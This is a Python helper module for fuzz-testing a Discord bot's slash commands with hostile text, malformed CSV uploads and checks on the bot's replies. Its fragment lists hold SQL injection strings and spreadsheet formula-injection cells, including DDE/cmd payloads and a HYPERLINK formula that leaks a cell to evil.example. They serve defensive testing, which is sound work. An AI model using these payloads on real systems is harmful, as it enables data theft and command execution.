"""Hostile input for the e2e tests: the registered commands as fuzz targets, value strategies
that stay inside what the Discord client lets a user send, malformed files, and the checks
every answer must pass.

Used by test_fuzz.py (random values), test_faults.py and test_permissions.py (the checks).
"""

from __future__ import annotations

import codecs
import csv
import io
import logging
import re
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st

from bot.playground.emulator import FileArgument, Interaction, Message
from bot.playground.emulator.commands import (
    ATTACHMENT,
    BOOLEAN,
    INTEGER,
    MAX_SAFE_INTEGER,
    MAX_STRING_VALUE,
    NUMBER,
    STRING,
    SUB_COMMAND,
    SUB_COMMAND_GROUP,
    RegisteredCommand,
)

# ---------------------------------------------------------------- the commands


@dataclass(frozen=True, slots=True)
class Leaf:
    """One runnable command (`/tiers define`), with its option definitions."""

    path: tuple[str, ...]
    options: tuple[dict[str, Any], ...]
    allowed_in_dm: bool

    @property
    def name(self) -> str:
        return "/" + " ".join(self.path)

    @property
    def autocomplete_options(self) -> list[str]:
        return [option["name"] for option in self.options if option.get("autocomplete")]


def command_leaves(commands: Iterable[RegisteredCommand]) -> list[Leaf]:
    """Every chat-input command and sub-command, in name order."""
    leaves: list[Leaf] = []

    def walk(path: tuple[str, ...], options: list[dict[str, Any]], in_dm: bool) -> None:
        if options and all(
            int(option["type"]) in (SUB_COMMAND, SUB_COMMAND_GROUP) for option in options
        ):
            for option in options:
                walk((*path, option["name"]), option.get("options") or [], in_dm)
            return
        leaves.append(Leaf(path, tuple(options), in_dm))

    for command in commands:
        if command.type == 1:
            walk((command.name,), command.body.get("options") or [], command.allowed_in_dm())
    return sorted(leaves, key=lambda leaf: leaf.path)


# ---------------------------------------------------------------- text

# Mentions, markdown, links, bidi controls, zero-width and other invisible characters,
# quoting and format-string syntax, SQL, and characters from the astral planes.
HOSTILE_FRAGMENTS = (
    "@everyone",
    "@here",
    "<@123456789012345678>",
    "<@!123456789012345678>",
    "<@&123456789012345678>",
    "<#123456789012345678>",
    "</help:123456789012345678>",
    "<@\u200b123456789012345678>",
    "<t:0:R>",
    "<:pog:123456789012345678>",
    "<a:pog:123456789012345678>",
    "@\u200beveryone",
    "**bold**",
    "__under__",
    "~~gone~~",
    "||spoiler||",
    "`",
    "```py\nprint(1)\n```",
    "> quoted",
    "# Heading",
    "-# small",
    "[click](https://evil.example/login)",
    "https://evil.example/@everyone",
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2069",
    "\u200b",
    "\u200d",
    "\u200f",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\x00",
    "\x1b[31m",
    "\r\n",
    "\n\n\n",
    "\t",
    "\\",
    "'",
    '"',
    "name:value",
    "followers:1 platform:tiktok",
    "%s%s%n",
    "{0}{__class__}",
    "%(token)s",
    "'; DROP TABLE shortlists; --",
    '=HYPERLINK("https://evil.example","x")',  # spreadsheet formulas, for exported files
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    '" OR 1=1 --',
    'NEAR(a b) "x" * AND OR NOT ^',  # FTS5 query syntax
    "\U0001f600",
    "\U0001d518\U0001d51e",
    "\U000e0041\U000e007f",  # tag characters
    "\U0010fffd",
    "ｅｖｅｒｙｏｎｅ",
    "x\u0301\u0301\u0301\u0301",
    "ﷺ",
    "𒐫",
    "مرحبا بالعالم",
    "שלום",
    "👩🏽‍💻👨‍👩‍👧‍👦",
)

# Text that looks like a number or an amount, at and past every edge.
NUMBER_LIKE = (
    "0",
    "-0",
    "-1",
    "1",
    "0.5",
    "1e308",
    "1e-308",
    "1e9999",
    "NaN",
    "inf",
    "-inf",
    "9" * 400,
    "99999999999999999999k",
    "12.5k",
    "1.2M",
    "1.2B",
    "45,000",
    "1,2,3",
    "1..2",
    "0x1F",
    "1_000",
    "1 000 000",
    "$25k",
    "€10k",
    "25k EUR",
    "¥1e6",
    "-$5",
    "$",
    "k",
    "٣٤٥",
    "１２３",
    "½",
    "²",
    "Ⅻ",
    "10k10k",
    "9007199254740993",
)

# One character repeated to the option's full length: 6,000 of them at most.
LONG_UNITS = ("x", "é", "😀", "𝔘", "@everyone ", "<@1> ", "**", "\u202e", "9", "\u200b")


# Values that mean something to the bot (a list the fuzz tests create, a creator on it, a
# tier, a platform, a count), so fuzzed commands also reach past "not found".
KNOWN_VALUES = (
    "Launch",
    "launch",
    " Launch ",
    "LAUNCH",
    "@ada",
    "ada",
    "https://www.instagram.com/ada",
    "instagram:ada",
    "Post 1",
    "12.5k",
    "1.2M",
    "$25k",
    "nano",
    "tiktok",
    "-",
)


def option_text(min_size: int = 1, max_size: int = MAX_STRING_VALUE) -> st.SearchStrategy[str]:
    """Text a user can type into a string option of these lengths (Discord's own limits)."""
    max_size = min(max_size, MAX_STRING_VALUE)
    piece = st.one_of(
        st.text(min_size=1, max_size=30),  # any code point of any plane, surrogates aside
        st.sampled_from(HOSTILE_FRAGMENTS),
        st.sampled_from(NUMBER_LIKE),
    )
    mixed = st.lists(piece, min_size=1, max_size=6).map("".join)
    full_length = st.sampled_from(LONG_UNITS).map(
        lambda unit: (unit * (max_size // len(unit) + 1))[:max_size]
    )
    known = st.sampled_from(KNOWN_VALUES)
    number = st.sampled_from(NUMBER_LIKE)
    return st.one_of(mixed, mixed, known, number, full_length).map(
        lambda text: _fit(text, min_size, max_size)
    )


def _fit(text: str, min_size: int, max_size: int) -> str:
    text = text[:max_size]
    return text + "x" * (min_size - len(text)) if len(text) < min_size else text


# ---------------------------------------------------------------- files

MAX_UPLOAD = 2 * 1024 * 1024
_TRIGGER_CELLS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"!A0")',
)


def _csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode(encoding, errors="replace")


def _formula_file(cells: list[str]) -> bytes:
    rows = [["handle", "followers", "platform", "likes", "notes"]]
    for index, cell in enumerate(cells):
        rows.append([cell, "12.5k", "instagram", cell, cell])
        rows.append([f"@creator{index}", cell, "tiktok", "100", cell])
    return _csv_bytes(rows)


def _wide_file(columns: int) -> bytes:
    header = ["handle", "followers", *(f"extra{i}" for i in range(columns - 2))]
    return _csv_bytes([header, ["@wide", "12k", *("x" for _ in range(columns - 2))]])


def _huge_line(size: int, header: bool) -> bytes:
    start = b"handle,followers\n" if header else b""
    unit = b"@a,12k," if header else b"handle,"
    body = unit * ((size - len(start)) // len(unit) + 1)
    return (start + body)[:size]


def _random_csv(cells: list[list[str]], encoding: str) -> bytes:
    return _csv_bytes([["handle", "followers", "platform", "likes", "comments"], *cells], encoding)


_cell = st.one_of(
    st.text(max_size=20),
    st.sampled_from(HOSTILE_FRAGMENTS),
    st.sampled_from(NUMBER_LIKE),
    st.sampled_from(_TRIGGER_CELLS),
)

MALFORMED_FILES: st.SearchStrategy[bytes] = st.one_of(
    st.binary(min_size=1, max_size=4096),
    st.just(b""),
    st.just(b"handle,followers\n"),
    st.just(b"handle,followers\n@nul\x00name,12k\n\x00\x00\x00"),
    st.just("handle,followers\n@ada,12k\n@bob,3.4M\n".encode("utf-16-le")),  # no BOM
    st.just("handle,followers\n@ada,12k\n".encode("utf-16")),
    st.just("handle,followers\n@ada,12k\n".encode("utf-32")),
    st.just(codecs.BOM_UTF8 + b"handle,followers\n@ada,12k\n"),
    st.just("“Name”,followers\n“José’s” shop,12k\n—dash—,1.2M\n".encode("cp1252")),
    st.just("handle;followers\n@ada;12,5k\n@bob;1.234.567\n".encode("latin-1")),
    st.just(b"handle\tfollowers\n@ada\t12k\n"),
    st.just(b"\xff\xfe\xfd\n\x80\x81\x82,\xc3\x28\n"),
    st.just(_formula_file(list(_TRIGGER_CELLS))),
    st.just(_wide_file(10_000)),
    st.sampled_from((MAX_UPLOAD - 1, MAX_UPLOAD, MAX_UPLOAD + 1)).flatmap(
        lambda size: st.sampled_from((_huge_line(size, True), _huge_line(size, False)))
    ),
    st.just(b"handle,followers\n" + b"@a,1\n" * 5_001),
    st.just(b'handle,followers\n"unterminated,12k\n@b,1\n'),
    st.just(b"\n\n\n\n"),
    st.just(b",,,,\n,,,,\n"),
    st.builds(
        _random_csv,
        st.lists(st.lists(_cell, min_size=0, max_size=7), min_size=0, max_size=20),
        st.sampled_from(("utf-8", "utf-16-le", "cp1252", "latin-1")),
    ),
)

FILE_NAMES = (
    "creators.csv",
    "creators.tsv",
    "creators.txt",
    "CREATORS.CSV",
    "list.xlsx",
    "notes.pdf",
    "no-extension",
    ".csv",
    "many.dots.in.name.csv",
)


def file_argument() -> st.SearchStrategy[FileArgument]:
    return st.builds(
        FileArgument,
        st.sampled_from(FILE_NAMES),
        MALFORMED_FILES,
        st.sampled_from(
            ("text/csv", "text/plain", "application/octet-stream", "text/csv; charset=utf-16")
        ),
    )


# ---------------------------------------------------------------- option values


# Plausible values for the options a test is not attacking, so the attacked one is reached
# past the checks of the others (a /classify with one hostile option and seven fine ones).
# Keyed by option name (names are part of the command contract); others get GENTLE_VALUES.
_COUNTS = ("12.5k", "45,000", "1.2M", "800", "0")
GENTLE_BY_OPTION: dict[str, tuple[str, ...]] = {
    "followers": ("12.5k", "45,000", "1.2M", "3,400", "250k"),
    "likes": _COUNTS,
    "comments": _COUNTS,
    "shares": _COUNTS,
    "saves": _COUNTS,
    "views": _COUNTS,
    "nano": ("1k", "500"),
    "micro": ("10k", "5k"),
    "mid": ("50k", "60k"),
    "macro": ("500k", "100k"),
    "mega": ("1M", "2M"),
    "budget": ("$25k", "25000", "€10k", "$1.2M"),
    "handle": ("@ada", "ada", "https://www.instagram.com/ada", "@bob.smith"),
    "name": ("Launch",),
    "new_name": ("Launch", "Autumn launch"),
    "question": ("how much does a micro influencer cost", "what is a nano influencer"),
}
GENTLE_VALUES = ("Launch", "@ada", "12.5k", "$25k", "vegan food", "Great fit", "-")


def option_value(definition: dict[str, Any], *, gentle: bool = False) -> st.SearchStrategy[Any]:
    """Any value the Discord client would send for this option (a plausible one if gentle)."""
    kind = int(definition["type"])
    choices = definition.get("choices") or []
    if choices:
        return st.sampled_from([choice["value"] for choice in choices])
    if kind == STRING:
        low = max(int(definition.get("min_length") or 1), 1)
        high = int(definition.get("max_length") or MAX_STRING_VALUE)
        if gentle:
            known = GENTLE_BY_OPTION.get(definition["name"], GENTLE_VALUES)
            return st.sampled_from(known).map(lambda text: _fit(text, low, high))
        return option_text(low, high)
    if kind == INTEGER:
        low_i = int(definition.get("min_value", -MAX_SAFE_INTEGER))
        high_i = int(definition.get("max_value", MAX_SAFE_INTEGER))
        return st.one_of(st.sampled_from((low_i, high_i)), st.integers(low_i, high_i))
    if kind == NUMBER:
        low_f = float(definition.get("min_value", -1e300))
        high_f = float(definition.get("max_value", 1e300))
        return st.one_of(
            st.sampled_from((low_f, high_f)),
            st.floats(low_f, high_f, allow_nan=False, allow_infinity=False),
        )
    if kind == BOOLEAN:
        return st.booleans()
    if kind == ATTACHMENT:
        return file_argument()
    raise AssertionError(f"no strategy for option type {kind} ({definition['name']})")


def option_values(leaf: Leaf) -> st.SearchStrategy[dict[str, Any]]:
    """Every required option and any of the optional ones. A third of the time every option
    is hostile; otherwise one is, and the others are plausible."""
    names = [option["name"] for option in leaf.options]

    def values(attacked: str | None) -> st.SearchStrategy[dict[str, Any]]:
        def strategy(option: dict[str, Any]) -> st.SearchStrategy[Any]:
            gentle = attacked is not None and option["name"] != attacked
            return option_value(option, gentle=gentle)

        required = {o["name"]: strategy(o) for o in leaf.options if o.get("required")}
        optional = {o["name"]: strategy(o) for o in leaf.options if not o.get("required")}
        return st.fixed_dictionaries(required, optional=optional)

    if not names:
        return st.just({})
    attacked = st.sampled_from(names)
    return st.one_of(st.just(None), attacked, attacked).flatmap(values)


# ---------------------------------------------------------------- checks

_UNEXPECTED = "tell the bot's operator this reference"
_CODE_SPANS = re.compile(r"```.*?```|`[^`\n]*`", re.DOTALL)
# The ids the fuzz puts in mentions: the bot may mention people itself (who added a creator),
# but user text must never render as a mention, a channel link or a command.
FUZZ_ID = "123456789012345678"
_RENDERED_MENTION = re.compile(rf"(?<!\\)<(?:@[!&]?|#|/[^:>]{{1,32}}:){FUZZ_ID}>")
# A cell a spreadsheet would run as a formula: = + - @ (after optional spaces), tab or CR,
# in ASCII or full-width, unless the whole cell is a plain signed number.
_FORMULA_START = re.compile(r"^[ \u00a0]*[=+\-@＝＋－＠]|^[\t\r]")
_SIGNED_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")


def describe(interaction: Interaction) -> str:
    return f"{interaction.label[:300]!r}"


def problems_with_answer(interaction: Interaction) -> list[str]:
    """What a user or Discord would object to in this interaction's answer."""
    problems: list[str] = []
    if interaction.late:
        problems.append("answered after 3 seconds")
    if interaction.rejections:
        problems.append(f"Discord refused a body: {interaction.rejections}")
    if interaction.callback_type is None:
        problems.append("never answered")
        return problems
    for message in interaction.messages:
        if message.pings:
            problems.append(f"would ping {message.pings}")
        text = message.text()
        if _UNEXPECTED in text:
            problems.append(f"an unexpected-error reply: {text[:300]!r}")
        outside_code = _CODE_SPANS.sub("", markdown_text(message))
        rendered = _RENDERED_MENTION.findall(outside_code)
        if rendered:
            problems.append(f"renders user text as mentions: {rendered[:3]}")
        for stored in message.files:
            if stored.filename.lower().endswith(".csv"):
                problems.extend(formula_cells(stored.data))
    return problems


def markdown_text(message: Message) -> str:
    """The parts of a message Discord renders as markdown (mentions included): the content
    and the embeds. Button labels and select options are shown as plain text."""
    parts = [message.content]
    for embed in message.embeds:
        parts += [embed.get("title") or "", embed.get("description") or ""]
        for field in embed.get("fields") or []:
            parts += [field.get("name") or "", field.get("value") or ""]
        parts.append((embed.get("footer") or {}).get("text") or "")
        parts.append((embed.get("author") or {}).get("name") or "")
    return "\n".join(parts)


def formula_cells(data: bytes) -> list[str]:
    """Cells of a CSV the bot sent that a spreadsheet would run as formulas, read as a
    spreadsheet opens it: decoded by its byte-order mark, split by its own delimiter (the
    bot writes a file back in the format it came in)."""
    if data.startswith((b"\xff\xfe\x00\x00", b"\x00\x00\xfe\xff")):
        text = data.decode("utf-32", errors="replace")
    elif data.startswith((b"\xff\xfe", b"\xfe\xff")):
        text = data.decode("utf-16", errors="replace")
    elif data.startswith(b"\xef\xbb\xbf"):
        text = data.decode("utf-8-sig", errors="replace")
    else:
        text = data.decode("cp1252", errors="replace")
    first = text.split("\n", 1)[0]
    delimiter = max(",;\t|", key=first.count)
    found = []
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            if _FORMULA_START.match(cell) and not _SIGNED_NUMBER.fullmatch(cell):
                found.append(f"formula cell in a CSV the bot sent: {cell[:60]!r}")
    return found[:3]


def new_log_problems(
    records: list[logging.LogRecord], since: int, allowed: Iterable[str] = ()
) -> list[str]:
    """Warnings and errors logged since index `since`, except the allowed fragments."""
    allowed = tuple(allowed)
    return [
        f"{record.levelname} {record.name}: {record.getMessage()[:300]}"
        for record in records[since:]
        if record.levelno >= logging.WARNING
        and not any(fragment in record.getMessage() for fragment in allowed)
    ]
